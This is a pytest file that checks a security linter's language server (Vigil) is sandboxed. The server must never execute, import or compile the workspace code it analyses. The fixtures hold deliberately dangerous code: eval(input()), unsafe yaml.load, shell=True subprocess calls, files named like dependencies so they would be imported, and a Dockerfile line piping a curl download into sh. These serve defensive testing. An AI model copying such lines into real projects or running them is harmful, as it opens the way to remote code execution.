"""Self-security: during a full session the server opens no network socket, starts no
process, writes no file, and never compiles or executes the code it analyses (audit hooks,
PEP 578, injected through ``sitecustomize``). Workspace files cannot get themselves imported,
and workspace rule directories are data only unless the user trusted them in user settings."""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path

import pytest
from vigil.rules.loader import load_rules

from tests.robustness.rpc import RawServer, assert_still_serving

AUDIT_DIR = Path(__file__).parent / "audit"
CANARY = "VIGIL_CANARY_6b1f0e"


def _malicious(marker: Path) -> str:
    """Code that leaves ``marker`` behind if anything imports, compiles or runs it."""
    return textwrap.dedent(f"""\
        # {CANARY}
        import os, yaml, subprocess
        open({str(marker)!r}, "w").write("{CANARY}")
        eval(input())
        data = yaml.load(stream)
        subprocess.run(cmd, shell=True)
        """)


def _audit_env(tmp_path: Path, writable: list[Path]) -> tuple[dict[str, str], Path]:
    log = tmp_path / "audit.jsonl"
    python_path = os.pathsep.join([str(AUDIT_DIR), *filter(None, [os.environ.get("PYTHONPATH")])])
    return {
        "PYTHONPATH": python_path,
        "PYTHONDONTWRITEBYTECODE": "1",  # byte-code caches are Python's writes, not Vigil's
        "VIGIL_AUDIT_LOG": str(log),
        "VIGIL_AUDIT_CANARY": CANARY,
        "VIGIL_AUDIT_WRITABLE": os.pathsep.join(str(w) for w in writable),
    }, log


def _events(log: Path) -> list[dict[str, str]]:
    if not log.exists():
        return []
    return [json.loads(line) for line in log.read_text().splitlines() if line.strip()]


def _workspace(root: Path, marker: Path) -> None:
    (root / "pkg").mkdir()
    (root / "pkg" / "__init__.py").write_text(_malicious(marker))
    (root / "app.py").write_text(_malicious(marker))
    (root / "conftest.py").write_text(_malicious(marker))
    (root / "setup.py").write_text(_malicious(marker))
    (root / "Dockerfile").write_text(f"# {CANARY}\nFROM python\nRUN curl http://x | sh\n")
    (root / "pyproject.toml").write_text('[tool.vigil]\nselect = ["DES", "INJ", "DKR"]\n')


def test_a_full_session_stays_inside_its_sandbox(tmp_path: Path, workspace: Path) -> None:
    marker = tmp_path / "executed.txt"
    _workspace(workspace, marker)
    env, log = _audit_env(tmp_path, writable=[])
    server = RawServer(tmp_path, env=env)
    try:
        server.initialize(workspace, options={"settings": {"logLevel": "debug"}})
        uri = (workspace / "app.py").as_uri()
        server.open(uri, _malicious(marker))
        assert {d["code"] for d in server.diagnostics(uri, 1, timeout=60)} >= {"DES002"}
        server.change(uri, 2, [{"range": {"start": {"line": 0, "character": 0},
                                          "end": {"line": 0, "character": 0}}, "text": "# edit\n"}])
        diagnostics = server.diagnostics(uri, 2, timeout=60)
        server.request("textDocument/hover", {"textDocument": {"uri": uri},
                                              "position": {"line": 5, "character": 12}})
        server.request("textDocument/codeAction", {
            "textDocument": {"uri": uri}, "range": diagnostics[0]["range"],
            "context": {"diagnostics": diagnostics}})
        server.request("workspace/executeCommand", {"command": "vigil.showRuleDocs", "arguments": ["DES002"]})
        server.request("workspace/executeCommand", {"command": "vigil.fixAll", "arguments": [uri]})
        server.notify("textDocument/didSave", {"textDocument": {"uri": uri}})
        server.notify("textDocument/didSave", {"textDocument": {"uri": (workspace / "pyproject.toml").as_uri()}})
        server.notify("workspace/didChangeConfiguration", {"settings": {"vigil": {"select": ["DES"]}}})
        assert_still_serving(server, (workspace / "last.py").as_uri())
    finally:
        assert server.close() == 0
    events = _events(log)
    assert events == [], json.dumps(events, indent=1)
    assert not marker.exists()
    # The hook really is active in the server process: prove it records what it should.
    assert (AUDIT_DIR / "sitecustomize.py").is_file()


def test_the_audit_hook_catches_what_it_claims(tmp_path: Path) -> None:
    """Guard against a hook that silently records nothing: run it in a throwaway process that
    does every forbidden thing once."""
    import subprocess
    import sys

    env, log = _audit_env(tmp_path, writable=[])
    target = tmp_path / "written.txt"
    code = textwrap.dedent(f"""\
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_STREAM).close()
        open({str(target)!r}, "w").close()
        compile("x = '{CANARY}'", "<analysed>", "exec")
        """)
    subprocess.run([sys.executable, "-c", code], env={**os.environ, **env}, check=True, timeout=60)
    kinds = [e["event"] for e in _events(log)]
    # The ``-c`` script contains the canary itself, hence one more compile and an exec.
    assert kinds.count("socket.__new__") == 1 and kinds.count("open") == 1, kinds
    assert any(e["event"] == "compile" and "<analysed>" in e["detail"] for e in _events(log)), kinds


def test_workspace_modules_named_like_dependencies_are_never_imported(tmp_path: Path, workspace: Path) -> None:
    """Editors other than VS Code start ``python -m vigil serve`` in the project folder, where
    ``python -m`` would put the project first on ``sys.path`` (fixed in ``vigil/__main__.py``)."""
    marker = tmp_path / "imported.txt"
    payload = f"open({str(marker)!r}, 'a').write(__name__ + '\\n')\n"
    for name in ("pygls", "lsprotocol", "tree_sitter", "cattrs", "pathspec", "diskcache", "attrs"):
        (workspace / f"{name}.py").write_text(payload)
    (workspace / "tree_sitter_python").mkdir()
    (workspace / "tree_sitter_python" / "__init__.py").write_text(payload)
    server = RawServer(tmp_path, cwd=workspace)
    try:
        server.initialize(workspace)
        assert_still_serving(server, (workspace / "a.py").as_uri())
    finally:
        server.close()
    assert not marker.exists(), marker.read_text()


def _rule_dir(root: Path, module: str) -> Path:
    rules = root / "security-rules"
    (rules / "python").mkdir(parents=True)
    (rules / "python" / "ZZZ001-custom.toml").write_text(textwrap.dedent(f"""\
        id = "ZZZ001"
        title = "custom"
        severity = "high"
        cwe = 94
        message = "custom finding"
        check = "{module}:check"
        query = "(call function: (identifier) @f (#eq? @f \\"danger\\")) @finding"
        [docs]
        why = "w"
        fix = "f"
        [[examples]]
        kind = "vulnerable"
        code = "danger()"
        lines = [1]
        [[examples]]
        kind = "safe"
        code = "fine()"
        """))
    return rules


def test_untrusted_rule_directories_load_no_python(tmp_path: Path, workspace: Path) -> None:
    marker = tmp_path / "rule-code-ran.txt"
    rules = _rule_dir(workspace, "workspace_check")
    (rules / "workspace_check.py").write_text(f"open({str(marker)!r}, 'w')\ndef check(m): return True\n")
    # Untrusted (as from [tool.vigil] rule-dirs or the ruleDirs setting): the rule is refused.
    ruleset = load_rules(extra_directories=[rules])
    assert ruleset.by_id("ZZZ001") is None
    assert any("not trusted" in str(e) for e in ruleset.errors)
    # A check naming any vigil function outside the check modules is refused as well.
    evil = _rule_dir(tmp_path / "other", "vigil.cli.main")
    ruleset = load_rules(extra_directories=[evil])
    assert ruleset.by_id("ZZZ001") is None and any("not trusted" in str(e) for e in ruleset.errors)
    assert not marker.exists()


@pytest.mark.parametrize("source", ["pyproject", "initialization", "relative"])
def test_workspace_settings_cannot_trust_a_rule_directory(tmp_path: Path, workspace: Path, source: str) -> None:
    """``trustedRuleDirs`` is user-level only: ``[tool.vigil]`` has no such key (a config
    error), and a relative path is refused because it would resolve inside the workspace."""
    marker = tmp_path / "rule-code-ran.txt"
    rules = _rule_dir(workspace, "workspace_check")
    (rules / "workspace_check.py").write_text(f"open({str(marker)!r}, 'w')\ndef check(m): return True\n")
    options: dict | None = None
    if source == "pyproject":
        (workspace / "pyproject.toml").write_text(
            '[tool.vigil]\nrule-dirs = ["security-rules"]\ntrusted-rule-dirs = ["security-rules"]\n')
    elif source == "relative":
        options = {"settings": {"ruleDirs": ["security-rules"], "trustedRuleDirs": ["security-rules"]}}
    else:  # untrusted ruleDirs from the client, without trustedRuleDirs
        options = {"settings": {"ruleDirs": [str(rules)]}}
    server = RawServer(tmp_path, cwd=workspace)
    try:
        server.initialize(workspace, options=options)
        uri = (workspace / "a.py").as_uri()
        server.open(uri, "danger()\n")
        assert "ZZZ001" not in [d["code"] for d in server.diagnostics(uri, 1, timeout=60)]
        log = server.log_text()
    finally:
        server.close()
    assert not marker.exists()
    if source == "pyproject":
        assert "trusted-rule-dirs" in log
    elif source == "relative":
        assert "'trustedRuleDirs' must hold absolute paths" in log
    else:
        assert "not trusted" in log


def test_user_trusted_rule_directory_loads_its_python(tmp_path: Path, workspace: Path) -> None:
    """The positive case, so the tests above cannot pass by loading nothing at all."""
    rules = _rule_dir(tmp_path / "user", "trusted_check_zzz")
    (rules / "trusted_check_zzz.py").write_text("def check(m):\n    return True\n")
    import sys

    sys.path.insert(0, str(rules))
    try:
        ruleset = load_rules(extra_directories=[rules], trusted_directories=[rules])
    finally:
        sys.path.remove(str(rules))
        sys.modules.pop("trusted_check_zzz", None)
    assert ruleset.by_id("ZZZ001") is not None, ruleset.errors
